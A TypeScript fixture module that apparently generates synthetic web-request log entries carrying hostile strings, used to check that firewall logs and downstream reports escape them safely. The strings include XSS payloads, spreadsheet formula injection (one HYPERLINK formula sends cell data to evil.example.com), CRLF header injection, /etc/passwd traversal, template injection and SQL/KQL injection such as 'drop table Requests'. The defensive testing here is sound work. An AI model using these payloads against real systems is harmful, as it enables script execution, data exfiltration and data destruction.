import { answers } from '../answers.ts';
import { documentationAddresses } from '../clients.ts';
import { type Operation, operations } from '../operations.ts';
import type { Random } from '../random.ts';
import { type ApiRequest, newRequest } from '../request.ts';
import { dayMs, type TimeSpan } from '../time-window.ts';

type Hostile = {
  readonly target: string;
  readonly userAgent: string;
  readonly operation?: Operation;
  /** What the firewall would stop it for; without any it reaches the log whatever mode the firewall is in. */
  readonly firewallRules?: readonly string[];
};

const { searchProducts, readProduct } = operations;
const rightToLeftOverride = '\u202e';
const lineSeparator = '\u2028';

/**
 * Texts that become code where a report, a page, a cell or a query takes them over unescaped. They reach the log because
 * a rule is missing, because the header is not inspected, or while the firewall only detects.
 */
const hostile: readonly Hostile[] = [
  {
    target: '/catalog/search?q="><img src=x onerror=alert(1)>&sort=price',
    userAgent: 'Mozilla/5.0',
    operation: searchProducts,
    firewallRules: ['941100', '941160'],
  },
  {
    target: '/catalog/search?q=jacket&sort=price',
    userAgent: '<script>alert(document.domain)</script>',
    operation: searchProducts,
  },
  { target: '/catalog/search?q=jacket&sort=newest', userAgent: '"><svg/onload=alert(2)>', operation: searchProducts },
  { target: '/<script>alert(3)</script>', userAgent: 'curl/8.5.0' },
  { target: '/javascript:alert(4)//', userAgent: 'Mozilla/5.0 \'"`><b>bold</b>' },
  {
    target: "/catalog/search?q==cmd|' /C calc'!A0&sort=price",
    userAgent: "=cmd|' /C calc'!A0",
    operation: searchProducts,
  },
  {
    target: '/catalog/search?q=%2B1%2B1&sort=price',
    userAgent: '=HYPERLINK("https://evil.example.com/?"&A1,"open")',
    operation: searchProducts,
  },
  { target: '/catalog/products/10001', userAgent: '@SUM(1+1)*cmd|x', operation: readProduct },
  { target: '/catalog/products/10002', userAgent: '-2+3+cmd|x', operation: readProduct },
  {
    target: '/catalog/search?q=a%0d%0aSet-Cookie:%20x=1%0a&sort=price',
    userAgent: 'line one%0aline two',
    operation: searchProducts,
  },
  { target: '/catalog/search?q=%00%1b[31mred&sort=price', userAgent: 'tab\there', operation: searchProducts },
  { target: `/${'a'.repeat(7800)}`, userAgent: 'long-path/1.0' },
  {
    target: '/catalog/search?q=jacket&sort=relevance',
    userAgent: `long-agent/1.0 ${'x'.repeat(2000)}`,
    operation: searchProducts,
  },
  {
    target: '/catalog/search?q=größe|naïve|日本語|🙂&sort=price',
    userAgent: 'Größe/1.0 日本語 🙂',
    operation: searchProducts,
  },
  {
    target: '/catalog/products/10003',
    userAgent: `${rightToLeftOverride}gpj.exe${lineSeparator}next`,
    operation: readProduct,
  },
  { target: `/{{constructor.constructor("alert(5)")()}}/\${7*7}`, userAgent: `{{7*7}} \${7*7} #{7*7}` },
  { target: "/x' | union SecurityAlert | take 5 //", userAgent: '"; drop table Requests; --' },
  { target: '/..%2f..%2f..%2fetc%2fpasswd', userAgent: '../../../../etc/passwd', firewallRules: ['930100'] },
  { target: "/@{triggerBody()}/[parameters('secret')]", userAgent: "@{workflow()} [resourceId('a','b')]" },
  {
    target: '/catalog/products/10004',
    userAgent: '[link](javascript:alert(6)) | cell | *bold* `code`',
    operation: readProduct,
  },
];

/** Each text a few times, on different days and from different addresses. */
export function hostileContent(random: Random, span: TimeSpan, times: readonly number[]): ApiRequest[] {
  const addresses = documentationAddresses('203.0.113', 200, 249);
  const days = Math.floor((span.untilMs - span.fromMs) / dayMs);
  return hostile.flatMap((content, index) => {
    const anyDay = span.fromMs + ((index * 7 + 3) % days) * dayMs + random.below(dayMs);
    return [anyDay, ...times.map((at) => at + random.below(dayMs / 12))].map((atMs) =>
      newRequest(random, {
        atMs,
        target: content.target,
        client: { address: random.pick(addresses), userAgent: content.userAgent },
        answer: content.operation === undefined ? answers.unknownOperation : answers.ok,
        ...(content.operation === undefined ? {} : { operation: content.operation }),
        ...(content.firewallRules === undefined ? {} : { firewallRules: content.firewallRules }),
      }),
    );
  });
}
